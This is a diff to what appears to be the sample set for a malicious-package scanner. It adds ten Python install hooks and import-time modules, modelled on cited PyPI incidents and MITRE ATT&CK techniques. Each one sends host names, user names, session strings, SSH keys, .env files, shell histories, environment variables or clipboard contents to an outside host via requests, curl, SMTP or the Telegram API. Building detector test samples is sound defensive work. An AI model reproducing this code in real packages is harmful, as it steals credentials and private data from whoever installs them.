@@ -678,6 +678,143 @@ SAMPLES = [
         "subprocess.Popen(_c, shell=True)\n"},
      "shell command built from a chr() list into a variable and run on import",
      "MITRE ATT&CK, Obfuscated Files or Information (T1027)"),
+
+    # --- Round 6 tuning samples (other write-ups than the held-out round 6): a source of the
+    # user's data reaching a sink that leaves the machine, in code that runs at install or import.
+    # pypi/warehouse issue #9894 (2021, trippybhaiya): the install command gathers the
+    # machine and login names and sends them in a query string.
+    ("demo-trippy", "sdist", {"setup.py":
+        "import os, platform, requests\nfrom setuptools import setup\n"
+        "from setuptools.command.install import install\n"
+        "class Inst(install):\n"
+        "    def run(self):\n"
+        "        info = platform.node() + '|' + os.getlogin()\n"
+        "        try:\n"
+        "            requests.get('https://trippy-stats.example-log.net/i', params={'d': info}, timeout=3)\n"
+        "        except Exception:\n            pass\n"
+        "        install.run(self)\n"
+        "setup(name='demo-trippy', version='0.0.7', cmdclass={'install': Inst})\n"},
+     "install hook sends machine and login names in a query string",
+     "pypi/warehouse issue #9894, trippybhaiya (2021)"),
+    # pypi/warehouse issue #5962 (2019, jajajejejiji / rstseuqe): setup.py reports the package
+    # installed, the one the user meant, the Python version and whether it runs under sudo.
+    ("demo-jajaje", "sdist", {"setup.py":
+        "import os, sys, json\nfrom urllib.request import Request, urlopen\nfrom setuptools import setup\n"
+        "report = {'got': 'jajajejejiji', 'meant': 'requests', 'py': sys.version,\n"
+        "          'sudo': os.environ.get('SUDO_USER') or os.geteuid() == 0}\n"
+        "try:\n"
+        "    urlopen(Request('http://typo-report.example-research.org/r', data=json.dumps(report).encode()), timeout=3)\n"
+        "except Exception:\n    pass\n"
+        "setup(name='demo-jajaje', version='1.0')\n"},
+     "setup.py reports Python version and the sudo user to a server at install",
+     "pypi/warehouse issue #5962, jajajejejiji / rstseuqe (2019)"),
+    # pypi/support issues #1052 / #1054 (2021, all-plugins): a Telegram userbot "plugin pack"
+    # whose module, on import, looks through several environment variable names for the
+    # account's session string and uploads it to a free-hosting site.
+    ("demo-all-plugins", "wheel", {"demo_all_plugins/__init__.py":
+        "import os\nfrom requests import get\n"
+        "SS = os.environ.get('STRING_SESSION', None)\n"
+        "if not SS:\n    SS = os.environ.get('TELEGRAM_STRING_SESSION', None)\n"
+        "if not SS:\n    SS = os.environ.get('TG_STRING_SESSION', None)\n"
+        "if SS:\n"
+        "    get('https://userbot-plugins.000webhostapp.com/add.php', params={'s': SS})\n"
+        "async def load_plugs():\n    return []\n"},
+     "Telegram session string read from the environment and sent to free hosting on import",
+     "pypi/support issues #1052 and #1054, all-plugins (2021)"),
+    # DataDog/guarddog issue #263 (2023): dependency-confusion "research" packages whose install
+    # command sends host name, working directory and user to a request-inspection endpoint.
+    ("demo-pipedream-probe", "sdist", {"setup.py":
+        "import os, socket, getpass, requests\nfrom setuptools import setup\n"
+        "from setuptools.command.install import install\n"
+        "class CustomInstall(install):\n"
+        "    def run(self):\n"
+        "        install.run(self)\n"
+        "        ploads = {'hostname': socket.gethostname(), 'cwd': os.getcwd(), 'username': getpass.getuser()}\n"
+        "        requests.get('https://eo6ksiuyau5e5x2.m.pipedream.net', params=ploads)\n"
+        "setup(name='demo-pipedream-probe', version='1.0.0', cmdclass={'install': CustomInstall})\n"},
+     "install hook sends host, cwd and user to a request bin",
+     "DataDog/guarddog issue #263, pentesting-domain probes (2023)"),
+    # ossf/malicious-packages PR #1365 (2026, the npm "@wagni_bot" crypto typosquats; the same
+    # behaviour written here in Python): fingerprint host and user, read the SSH key and the
+    # project's .env, JSON-encode and send it as a Telegram bot message.
+    ("demo-wagni", "wheel", {"demo_wagni/__init__.py":
+        "import os, json, socket, getpass, requests\n"
+        "_T = '7000000001:AAE-example-wagni-token-000000000000'\n"
+        "def _boot():\n"
+        "    d = {'h': socket.gethostname(), 'u': getpass.getuser()}\n"
+        "    for p in (os.path.expanduser('~/.ssh/id_rsa'), os.path.join(os.getcwd(), '.env')):\n"
+        "        if os.path.exists(p):\n            d[p] = open(p).read()\n"
+        "    requests.post('https://api.telegram.org/bot' + _T + '/sendMessage', data={'chat_id': '-100123', 'text': json.dumps(d)})\n"
+        "_boot()\n"},
+     "SSH key, .env and host fingerprint sent as a Telegram bot message on import",
+     "ossf/malicious-packages PR #1365, @wagni_bot campaign (2026)"),
+    # MITRE ATT&CK, System Owner/User Discovery (T1033) procedure examples: the output of
+    # whoami/id is collected and handed to curl, which posts it.
+    ("demo-whoami-curl", "wheel", {"demo_whoami_curl/__init__.py":
+        "import subprocess\n"
+        "def _sync():\n"
+        "    who = subprocess.check_output(['id']).decode() + subprocess.check_output(['hostname']).decode()\n"
+        "    subprocess.run(['curl', '-s', '-X', 'POST', '--data-binary', who, 'https://sync.example-metrics.cc/u'], capture_output=True)\n"
+        "_sync()\n"},
+     "output of id and hostname posted with curl on import",
+     "MITRE ATT&CK, System Owner/User Discovery (T1033)"),
+    # MITRE ATT&CK, File and Directory Discovery (T1083): listings of the user's home and
+    # documents folders sent out.
+    ("demo-home-listing", "wheel", {"demo_home_listing/__init__.py":
+        "import os, json, urllib.request\n"
+        "home = os.path.expanduser('~')\n"
+        "listing = {d: os.listdir(os.path.join(home, d)) for d in ('Documents', 'Desktop', '.ssh') if os.path.isdir(os.path.join(home, d))}\n"
+        "try:\n"
+        "    urllib.request.urlopen('https://cdn-stats.example-edge.top/l', data=json.dumps(listing).encode(), timeout=4)\n"
+        "except Exception:\n    pass\n"},
+     "listings of the home folder's Documents, Desktop and .ssh posted on import",
+     "MITRE ATT&CK, File and Directory Discovery (T1083)"),
+    # MITRE ATT&CK, Data from Local System (T1005): shell history and git identity read and
+    # sent over http.client from a helper the module calls.
+    ("demo-history-post", "wheel", {"demo_history_post/_meta.py":
+        "import os, http.client\n"
+        "def _collect():\n"
+        "    out = ''\n"
+        "    for n in ('.bash_history', '.zsh_history', '.gitconfig'):\n"
+        "        p = os.path.join(os.path.expanduser('~'), n)\n"
+        "        if os.path.exists(p):\n            out += open(p, errors='ignore').read()\n"
+        "    return out\n"
+        "def send():\n"
+        "    c = http.client.HTTPSConnection('telemetry.example-hist.xyz', timeout=5)\n"
+        "    c.request('POST', '/h', body=_collect())\n"
+        "send()\n",
+        "demo_history_post/__init__.py": "from . import _meta\n"},
+     "shell histories and git config posted over http.client from a module imported by __init__",
+     "MITRE ATT&CK, Data from Local System (T1005)"),
+    # MITRE ATT&CK, Exfiltration Over Alternative Protocol: Mail (T1048.003 / T1071.003):
+    # environment and user sent as an e-mail through an SMTP relay on import.
+    ("demo-smtp-env", "wheel", {"demo_smtp_env/__init__.py":
+        "import os, getpass, smtplib\nfrom email.message import EmailMessage\n"
+        "def _mail():\n"
+        "    m = EmailMessage()\n"
+        "    m['Subject'] = getpass.getuser()\n"
+        "    m.set_content('\\n'.join('%s=%s' % kv for kv in os.environ.items()))\n"
+        "    m['From'] = m['To'] = 'drop@example-mail.tk'\n"
+        "    with smtplib.SMTP('smtp.example-mail.tk', 587) as s:\n"
+        "        s.send_message(m)\n"
+        "_mail()\n"},
+     "environment and user name mailed through SMTP on import",
+     "MITRE ATT&CK, Exfiltration Over Alternative Protocol (T1048.003)"),
+    # MITRE ATT&CK, Clipboard Data (T1115): the clipboard read in a thread started on import
+    # and posted.
+    ("demo-clip-post", "wheel", {"demo_clip_post/__init__.py":
+        "import threading, time, requests, pyperclip\n"
+        "def _watch():\n"
+        "    last = None\n"
+        "    while True:\n"
+        "        cur = pyperclip.paste()\n"
+        "        if cur != last:\n"
+        "            requests.post('https://clip.example-sync.pw/c', data={'c': cur}, timeout=3)\n"
+        "            last = cur\n"
+        "        time.sleep(2)\n"
+        "threading.Thread(target=_watch, daemon=True).start()\n"},
+     "clipboard polled by a thread started on import and posted",
+     "MITRE ATT&CK, Clipboard Data (T1115)"),
 ]
 
 # Which behaviour classes each sample exercises (per-class recall). Held-out samples carry
@@ -747,6 +884,15 @@ CLASSES = {
     "demo-pip-url": ["download-run", "shady-links", "import-time"],
     "demo-class-body": ["download-run", "import-time"],
     "demo-chr-shell": ["decode-run", "download-run", "import-time"],
+    "demo-trippy": ["exfiltration", "beacon"], "demo-jajaje": ["exfiltration", "beacon"],
+    "demo-all-plugins": ["credential-theft", "exfiltration", "import-time", "shady-links"],
+    "demo-pipedream-probe": ["beacon", "exfiltration"],
+    "demo-wagni": ["credential-theft", "exfiltration", "import-time"],
+    "demo-whoami-curl": ["exfiltration", "beacon", "import-time"],
+    "demo-home-listing": ["exfiltration", "import-time"],
+    "demo-history-post": ["credential-theft", "exfiltration", "import-time"],
+    "demo-smtp-env": ["exfiltration", "credential-theft", "import-time"],
+    "demo-clip-post": ["screen-capture", "exfiltration", "import-time"],
 }
 
 BINARY_SUFFIXES = (".png", ".jpg", ".dll", ".pyc", ".exe", ".so", ".bin", ".pkl", ".pt", ".joblib", ".npy", ".ckpt", ".dat")
